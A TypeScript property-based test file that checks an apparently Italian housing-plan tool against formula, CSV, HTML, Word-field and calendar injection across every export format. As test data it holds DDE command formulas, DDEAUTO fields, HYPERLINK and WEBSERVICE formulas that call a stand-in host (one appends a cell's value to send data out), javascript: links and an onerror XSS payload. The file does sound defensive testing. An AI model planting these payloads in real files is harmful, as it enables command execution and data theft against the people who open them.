// Whatever a sender writes into a cell, nothing of it becomes a formula, a link, a field or markup in
// what Quadra makes of it; and what only looks like a formula comes through as what it is.
import * as fc from "fast-check";
import * as XLSX from "@e965/xlsx";
import { strFromU8, strToU8, unzipSync } from "fflate";
import { Parser } from "htmlparser2";
import Papa from "papaparse";
import { SaxesParser } from "saxes";
import { addDays } from "../../src/domain/calendario/isoDate";
import { deadlinesIcs } from "../../src/domain/calendario/deadlinesIcs";
import { datiAperti } from "../../src/domain/dati/datiAperti";
import {
  checkPrepared,
  NOTHING_KNOWN,
  ownSheets,
  preparePiano,
  readSources,
  type PreparedPiano,
} from "../../src/domain/preparePiano";
import { delimitedFile } from "../../src/hosts/delimitedFile";
import { cellEntry } from "../../src/hosts/excel/cellEntry";
import { newFileWorkbook } from "../../src/hosts/fileWorkbook";
import { readSourceFile } from "../../src/hosts/readSourceFile";
import { writeWord } from "../../src/hosts/writeWord";
import { documentHtml } from "../../src/messages/documentHtml";
import { documentOf } from "../../src/messages/documentOf";
import { cellEntry as excelReads } from "../../src/banco/host/cellEntry";
import { isCellError } from "../../src/workbook/cellGrid";
import { isCellFormula, type CellContent } from "../../src/workbook/cellWrite";
import type { TableSheet } from "../../src/workbook/tableSheet";
import { match } from "../domain/pianoOfText";
import { filesOf, wordFile } from "../hosts/formats/planFiles";
import { sampleParts, zipParts } from "../hosts/sampleFile";

/** In every text of a stranger, so that it is found again. */
const MARK = "STRANIERO";

const STARTS = [
  ...["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "\u2212"],
  ...["\t=", "\r=", "\n=", " =", "\u00A0+", "\uFEFF=", "\u200B@", "'=", '"='],
  ...[
    "x;=",
    "x;-",
    'x;"=',
    "x,=",
    "x\n=",
    "x\t+",
    "x\r\n@",
    "; =",
    "</t><f>",
    "_x003D_",
    "]]>=",
    "",
  ],
];
const BODIES = [
  `cmd|'/C ${MARK}'!A0`,
  `HYPERLINK("http://${MARK}.example";"premi")`,
  `WEBSERVICE("http://${MARK}.example/?"&A1)`,
  `1+1+${MARK}`,
  `DDEAUTO c:\\\\${MARK} "x"`,
  `<a href="javascript:${MARK}">x</a>`,
  `<img src=x onerror=${MARK}>`,
  `file:///${MARK}`,
  `;=${MARK}+1;`,
  `BEGIN:VALARM\r\nATTACH:${MARK}`,
];

const strangers = fc
  .tuple(fc.constantFrom(...STARTS), fc.constantFrom(...BODIES))
  .map(([start, body]) => start + body);

const COUNTS = [
  ...["Unità immobiliari complessivamente disponibili", "Turn-over"],
  ...["Carenza manutentiva", "Nuova edificazione"],
];

/** A table of a plan in which a stranger's text stands wherever text can stand. */
const linesWith = (text: string) => [
  [`Piano annuale 2021: quadro riepilogativo ${text}`],
  [],
  ["Ragione Sociale Ente Proprietario", ...COUNTS],
  ["Comune di Viadana", 6, 3, 2, 1],
  ["Comune di Bozzolo *", null, null, null, null],
  [text, 1, 1, 0, 0],
  ["Comune di Rivarolo Mantovano", 1204, text, 4, 0],
  ["TOTALE", 1211, 1204, 6, 1],
  [],
  [`* ${text}`],
];

/** What a text is in a file that cannot hold it otherwise: line ends of text files are rows. */
const holdable = (name: string, text: string): string =>
  /\.(csv|tsv|txt)$/.test(name) ? text.replace(/[\t\r\n;,"]/g, " ") : text;

const NAMES = Object.keys(filesOf([[""]]));

async function read(name: string, bytes: Uint8Array, file = name) {
  const grids = await readSourceFile(name, bytes);
  if (!grids.ok) throw new Error(`${name}: ${JSON.stringify(grids.failure)}`);
  return preparePiano(
    NOTHING_KNOWN,
    readSources([{ file, grids: grids.value }], match, 44_200),
    2021,
  );
}

interface Cell {
  readonly content: CellContent;
  readonly isText: boolean;
}

const cellsOf = (sheets: readonly TableSheet[]): Cell[] =>
  sheets.flatMap(({ columns, rows }) =>
    rows.flatMap((row) =>
      row.map((content, i) => ({
        content,
        isText: columns[i]!.kind === "text" || columns[i]!.kind === "long-text",
      })),
    ),
  );

/** Excel makes of the entry what it was: no formula, no other text, no number. */
function expectSafeInExcel({ content, isText }: Cell): void {
  if (content === null || typeof content === "boolean") return;
  if (isCellFormula(content)) {
    expect(content.formula).not.toContain(MARK);
    return;
  }
  const entry = cellEntry(content, isText);
  const { content: stored = null } = excelReads(entry, isText ? "@" : "General");
  if (typeof content === "string") expect(stored).toEqual(content === "" ? "" : content);
  else if (isCellError(content)) expect(isCellFormula(stored)).toBe(false);
}

async function expectSafeXlsx(sheets: readonly TableSheet[]): Promise<void> {
  const workbook = newFileWorkbook("dati.xlsx");
  const put = await workbook.putTableSheets(sheets);
  if (!put.ok) throw new Error(JSON.stringify(put.failure));
  const parts = unzipSync(workbook.bytes());
  for (const [name, bytes] of Object.entries(parts)) {
    const xml = strFromU8(bytes);
    expect(name).not.toMatch(/externalLink|vbaProject|connections/);
    if (!/\.(xml|rels)$/.test(name)) continue;
    expect(xml).not.toMatch(/TargetMode="External"|<hyperlink|<ddeLink|<oleLink/);
    // No formula, no name, no rule has anything of a stranger's.
    const inner = /<(?:\w+:)?(f|formula\d?|definedName|calculatedColumnFormula)\b[^>]*>([^<]*)</g;
    for (const [, , formula] of xml.matchAll(inner)) expect(formula).not.toContain(MARK);
    new SaxesParser().write(xml).close();
  }
  const grids = await workbook.readGrids();
  if (!grids.ok) throw new Error(JSON.stringify(grids.failure));
  const wanted = cellsOf(sheets).flatMap(({ content }) =>
    typeof content === "string" && content.includes(MARK) ? [content] : [],
  );
  const found = new Set(grids.value.flatMap(({ values }) => values.flat()));
  expect(wanted.filter((text) => !found.has(text))).toEqual([]);
}

/** As OWASP lists them, after what a spreadsheet trims. */
const BEGINS_FORMULA = /^[\s\u200B\uFEFF]*[=+\-@＝＋－＠﹦\u2212]/u;

function expectSafeCsv(prepared: PreparedPiano): void {
  for (const table of datiAperti(prepared.piano, `Ambito ${MARK}`, new Map())) {
    const text = new TextDecoder().decode(
      delimitedFile(
        table.columns.map(({ key }) => key),
        table.rows,
      ),
    );
    // With commas as it was written, with semicolons as an Italian Excel opens it, with tabs.
    for (const delimiter of [",", ";", "\t"]) {
      const { data } = Papa.parse<string[]>(text, { delimiter, quoteChar: '"' });
      const formulas = data.flat().filter((cell) => BEGINS_FORMULA.test(cell));
      expect(formulas.filter((cell) => !/^-?\d+(\.\d+)?$/.test(cell))).toEqual([]);
    }
    // A reader that knows nothing of quotes still finds no formula behind a separator.
    for (const cell of text.split(/[;\t\r\n]/)) {
      const bare = cell.replace(/^[\s"\u200B\uFEFF]+/u, "");
      expect(/^[=+\-@＝＋－＠﹦\u2212]/u.test(bare) && bare.includes(MARK)).toBe(false);
    }
  }
}

async function expectSafeDocuments(prepared: PreparedPiano, text: string): Promise<void> {
  const document = documentOf(prepared, checkPrepared(prepared, match), [text]);
  const parts = unzipSync(await writeWord(document));
  for (const [name, bytes] of Object.entries(parts)) {
    if (!/\.(xml|rels)$/.test(name)) continue;
    const xml = strFromU8(bytes);
    new SaxesParser().write(xml).close();
    expect([name, /TargetMode="External"/.test(xml)]).toEqual([name, false]);
    for (const [, field] of xml.matchAll(/<w:instrText[^>]*>([^<]*)</g)) {
      expect(field).not.toContain(MARK);
    }
  }
  const tags = new Set<string>();
  const attributes = new Set<string>();
  const parser = new Parser({
    onopentag: (name, values) => {
      tags.add(name);
      Object.entries(values).forEach(([key, value]) => {
        attributes.add(key);
        expect(value).not.toContain(MARK);
      });
    },
  });
  parser.end(documentHtml(document));
  const plain = ["h1", "h2", "h3", "p", "b", "ul", "li", "small"];
  const table = ["table", "thead", "tbody", "tr", "th", "td"];
  expect([...tags].filter((tag) => ![...plain, ...table].includes(tag))).toEqual([]);
  expect([...attributes].filter((one) => !["style", "align", "width"].includes(one))).toEqual([]);
}

function expectSafeCalendar(text: string): void {
  const calendar = [
    {
      step: "ricognizioneAperta" as const,
      state: "open" as const,
      due: addDays("2021-01-01", 3),
    },
  ] as unknown as Parameters<typeof deadlinesIcs>[1];
  const words = () => ({ summary: text, description: text });
  const file = deadlinesIcs({ id: text }, calendar, text, words, "2021-11-01T08:00:00.000Z");
  const lines = file.replace(/\r\n /g, "").split("\r\n");
  const known =
    /^(BEGIN|END|VERSION|PRODID|CALSCALE|METHOD|X-WR-CALNAME|UID|DTSTAMP|LAST-MODIFIED|DTSTART;VALUE=DATE|DTEND;VALUE=DATE|SUMMARY|DESCRIPTION|CLASS|TRANSP|X-MICROSOFT-CDO-BUSYSTATUS|ACTION|TRIGGER):|^$/;
  expect(lines.filter((line) => !known.test(line))).toEqual([]);
  expect(file.match(/^BEGIN:VALARM/gm)).toHaveLength(2);
  // eslint-disable-next-line no-control-regex
  expect(file).not.toMatch(/(?<!\r)\n|\r(?!\n)|[\u0000-\u0008\u000B\u000C\u000E-\u001F]/);
}

test("a stranger's text is only text in sheets, workbooks, open data, Word, HTML and calendars, whatever format it came in", async () => {
  await fc.assert(
    fc.asyncProperty(strangers, fc.constantFrom(...NAMES), async (text, name) => {
      const said = holdable(name, text);
      const prepared = await read(name, filesOf(linesWith(said))[name]!(), `${said}.xlsx`);
      const sheets = ownSheets(prepared);
      expect(JSON.stringify(sheets)).toContain(MARK);
      cellsOf(sheets).forEach(expectSafeInExcel);
      await expectSafeXlsx(sheets);
      expectSafeCsv(prepared);
      expectSafeCalendar(text);
    }),
    { numRuns: 12 },
  );
});

test("nor in the printed plan", async () => {
  await fc.assert(
    fc.asyncProperty(strangers, async (text) => {
      const prepared = await read("piano.xlsx", filesOf(linesWith(text))["piano.xlsx"]!(), text);
      await expectSafeDocuments(prepared, text);
    }),
    { numRuns: 3 },
  );
});

test("any text at all is the same text in Excel and in a workbook, and no formula in a delimited file", async () => {
  const texts = fc.oneof(
    fc.string({ unit: "grapheme", maxLength: 12 }),
    fc.string({ unit: fc.constantFrom(..."=+-@\t\r\n ;,\"'＝1a\uFEFF\u200B"), maxLength: 6 }),
  );
  await fc.assert(
    fc.asyncProperty(fc.array(texts, { minLength: 20, maxLength: 20 }), async (all) => {
      for (const content of all) {
        expectSafeInExcel({ content, isText: false });
        expectSafeInExcel({ content, isText: true });
        // A file that calls a text an error does not get it past.
        expectSafeInExcel({ content: { error: content }, isText: false });
      }
      const bytes = delimitedFile(
        ["testo", "fine"],
        all.map((text) => [text, "fine"]),
      );
      for (const delimiter of [",", ";", "\t"]) {
        const { data } = Papa.parse<string[]>(new TextDecoder().decode(bytes), { delimiter });
        expect(data.flat().filter((cell) => BEGINS_FORMULA.test(cell))).toEqual([]);
      }
      await expectSafeXlsx([
        {
          ...{ sheet: "A", table: "A" },
          columns: [{ header: "Testo", kind: "general", width: 20 }],
          rows: all.map((text) => [`${text}${MARK}`]),
        },
      ]);
    }),
    { numRuns: 12 },
  );
});

/** Formulas, links and fields of a file, with what they showed. */
const LOADED: readonly (readonly [string, () => Uint8Array])[] = [
  [
    "an .xlsx with formulas, a link to a program, and a formula that is called an error",
    () =>
      zipParts(
        sampleParts([
          {
            name: "A",
            xml: `<sheetData>
<row r="1"><c r="A1" t="inlineStr"><is><t>Ente proprietario</t></is></c><c r="B1" t="inlineStr"><is><t>Turn-over</t></is></c></row>
<row r="2"><c r="A2" t="str"><f>HYPERLINK("http://${MARK}.example","x")</f><v>Comune di Viadana</v></c><c r="B2"><f>cmd|'/C ${MARK}'!A0</f><v>3</v></c></row>
<row r="3"><c r="A3" t="inlineStr"><is><t>Comune di Bozzolo</t></is></c><c r="B3" t="e"><v>=cmd|'/C ${MARK}'!A0</v></c></row>
</sheetData><hyperlinks><hyperlink ref="A3" location="javascript:${MARK}"/></hyperlinks>`,
          },
        ]),
      ),
  ],
  [
    "an .xls with formulas",
    () => {
      const sheet = XLSX.utils.aoa_to_sheet([
        ["Ente proprietario", "Turn-over"],
        ["Comune di Viadana", 3],
      ]);
      sheet["B2"] = { t: "n", v: 3, f: `HYPERLINK("http://${MARK}.example",3)` };
      const book = XLSX.utils.book_new();
      XLSX.utils.book_append_sheet(book, sheet, "A");
      return new Uint8Array(XLSX.write(book, { type: "array", bookType: "biff8" }) as ArrayBuffer);
    },
  ],
  [
    "a page with links and scripts",
    () =>
      strToU8(
        `<table><tr><td>Ente proprietario</td><td>Turn-over</td></tr><tr><td><a href="javascript:${MARK}">Comune di Viadana</a><script>${MARK}</script></td><td onclick="${MARK}">3</td></tr></table>`,
      ),
  ],
  [
    "a document with a field that runs a program and a link",
    () => {
      const p = (inside: string) => `<w:tc><w:p>${inside}</w:p></w:tc>`;
      const t = (text: string) => p(`<w:r><w:t>${text}</w:t></w:r>`);
      const field = `<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO ${MARK}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>3</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`;
      return wordFile(
        `<w:tbl><w:tr>${t("Ente proprietario")}${t("Turn-over")}</w:tr><w:tr>${t("Comune di Viadana")}${p(field)}</w:tr></w:tbl>`,
      );
    },
  ],
];

test.each(LOADED)("of %s only what it shows is taken", async (_, make) => {
  const prepared = await read("prova", make());
  expect(prepared.piano.enti[0]?.ente.name).toBe("Viadana");
  expect(prepared.piano.enti[0]?.cells.get("turnover")?.[0]?.cell.figure).toMatchObject({
    ...{ state: "value", value: 3 },
  });
  const sheets = ownSheets(prepared);
  cellsOf(sheets).forEach(expectSafeInExcel);
  await expectSafeXlsx(sheets);
  expectSafeCsv(prepared);
  await expectSafeDocuments(prepared, "");
});

test.each(NAMES)(
  "in %s a figure of -5 stays a number and a note of +39 stays a text",
  async (name) => {
    const note = "+39 0375 820101";
    const lines = linesWith(note).map((line) =>
      line[0] === "Comune di Viadana" ? ["Comune di Viadana", -5, 3, "-5", 1] : line,
    );
    const grids = await readSourceFile(name, filesOf(lines)[name]!());
    if (!grids.ok) throw new Error(JSON.stringify(grids.failure));
    const shown = grids.value.flatMap(({ values }) => values.flat());
    expect(shown).toContain(note);
    const { piano } = preparePiano(
      NOTHING_KNOWN,
      readSources([{ file: name, grids: grids.value }], match, 44_200),
      2021,
    );
    const viadana = piano.enti.find(({ ente }) => ente.name === "Viadana")!;
    for (const field of ["disponibili", "carenzaManutentiva"] as const) {
      expect([field, viadana.cells.get(field)?.[0]?.cell.figure]).toEqual([
        field,
        { state: "value", value: -5, decimals: 0 },
      ]);
    }
  },
);
